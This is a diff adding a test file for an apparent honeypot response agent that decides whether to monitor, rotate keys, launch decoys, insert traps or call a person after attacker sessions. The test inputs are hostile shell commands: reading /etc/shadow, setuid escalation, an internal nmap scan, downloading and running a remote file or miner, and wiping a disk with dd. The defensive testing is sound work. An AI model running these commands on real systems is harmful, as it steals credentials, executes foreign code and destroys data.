@@ -1,0 +1,120 @@
+import { decisionSchema } from '@cerberusmesh/contracts';
+import { describe, expect, it } from 'vitest';
+import { createAttackMapper } from '../detection/attack-mapper/attack-mapper.ts';
+import { emptyFacts, factsAfter, type Story, testEvent, testId } from '../detection/scoring/test-facts.ts';
+import { createAgent } from './decide.ts';
+
+const mapper = createAttackMapper();
+const agent = createAgent();
+const closed = testEvent('session.closed', 'closed', { reason: 'client-closed', durationMs: 1_000 });
+
+function decidedAfter(story: Story): string[] {
+  return agent.decide(factsAfter(mapper, story), closed).map(({ kind, trigger }) => `${kind} for ${trigger}`);
+}
+
+describe('the agent', () => {
+  it.each<[string, Story, string[]]>([
+    ['only watches a scan', {}, ['monitor for low-score']],
+    ['only watches a look around', { login: true, commands: ['uname -a'] }, ['monitor for low-score']],
+    ['rotates keys after many failed credentials', { failedCredentials: 5 }, ['rotate_key for credential-attack']],
+    ['rotates keys when a guess worked', { failedCredentials: 1, login: true }, ['rotate_key for credential-reuse']],
+    [
+      'rotates keys when hashes are read',
+      { login: true, commands: ['cat /etc/shadow'] },
+      ['rotate_key for credential-theft'],
+    ],
+    [
+      'launches a decoy on privilege escalation',
+      { login: true, commands: ['chmod u+s /tmp/sh'] },
+      ['launch_decoy for escalation-pattern'],
+    ],
+    [
+      'launches a decoy on a scan from inside',
+      { login: true, commands: ['nmap 10.0.0.0/24'] },
+      ['launch_decoy for escalation-pattern'],
+    ],
+    [
+      'inserts a trap where code is fetched and run',
+      { login: true, commands: ['wget http://192.0.2.9/x; sh x'] },
+      ['insert_trap for code-execution'],
+    ],
+    [
+      'calls a person when harm is done',
+      { login: true, commands: ['dd if=/dev/zero of=/dev/sda'] },
+      ['escalate for impact-stage'],
+    ],
+  ])('%s', (_, story, expected) => {
+    expect(decidedAfter(story)).toEqual(expected);
+  });
+
+  it('waits with watching until something happened', () => {
+    const opened = testEvent('session.opened', 'opened', {});
+    expect(agent.decide({ ...emptyFacts(), score: 0.02 }, opened)).toEqual([]);
+  });
+
+  it('explains a decision completely', () => {
+    const facts = factsAfter(mapper, { failedCredentials: 6 });
+    expect(agent.decide(facts, closed)).toEqual([
+      {
+        decisionId: '8c58ae84-35f0-8ad0-a5d6-29dd9e1c0c5b',
+        kind: 'rotate_key',
+        trigger: 'credential-attack',
+        state: 'proposed',
+        confidence: 0.7,
+        score: facts.score,
+        level: 2,
+        stage: 'contact',
+        reasons: [{ trigger: 'credential-attack', text: '6 credentials failed in one session; 5 make an attack.' }],
+        evidence: [0, 1, 2, 3, 4, 5].map((at) => testId(`failed ${at}`)),
+        alternatives: [
+          {
+            kind: 'monitor',
+            text: `Watching alone suits a score of ${facts.score.toFixed(2)}, but this evidence asks for an answer of its own.`,
+          },
+          { kind: 'escalate', text: `The score of ${facts.score.toFixed(2)} is not above 0.9.` },
+        ],
+        counterfactual: 'Fewer than 5 failed credentials in the session would have rotated nothing.',
+        policy: {
+          threshold: 0.7,
+          autoAction: false,
+          text: 'Proposed: automatic action is off (confidence 0.70 is at or above the threshold 0.7).',
+        },
+        agentVersion: '2026.1',
+      },
+    ]);
+  });
+
+  it('authorises only above the threshold and with automatic action on', () => {
+    const states = (options: { threshold: number; autoAction: boolean }, failedCredentials: number) =>
+      createAgent(options)
+        .decide(factsAfter(mapper, { failedCredentials }), closed)
+        .map(({ state }) => state);
+    expect(states({ threshold: 0.7, autoAction: true }, 8)).toEqual(['authorised']);
+    expect(states({ threshold: 0.7, autoAction: true }, 5)).toEqual(['proposed']);
+    expect(states({ threshold: 0.7, autoAction: false }, 8)).toEqual(['proposed']);
+  });
+
+  it('decides once per session and trigger', () => {
+    const facts = factsAfter(mapper, { failedCredentials: 9 });
+    const first = agent.decide(facts, closed);
+    facts.decided = first.map(({ trigger, kind }) => ({ trigger, kind }));
+    expect([first.length, agent.decide(facts, closed)]).toEqual([1, []]);
+  });
+
+  it('gives decisions in the shape of the contract, with evidence that the facts hold', () => {
+    const facts = factsAfter(mapper, {
+      failedCredentials: 30,
+      login: true,
+      downloads: 2,
+      commands: ['cat /etc/shadow', 'wget http://192.0.2.9/xmrig; ./xmrig', 'chmod u+s x'],
+    });
+    const known = new Set([
+      ...Object.values(facts.evidence).flat(),
+      ...facts.detections.flatMap(({ evidence }) => evidence),
+    ]);
+    for (const decision of agent.decide(facts, closed)) {
+      decisionSchema.parse(decision);
+      expect(decision.evidence.filter((id) => !known.has(id))).toEqual([]);
+    }
+  });
+});
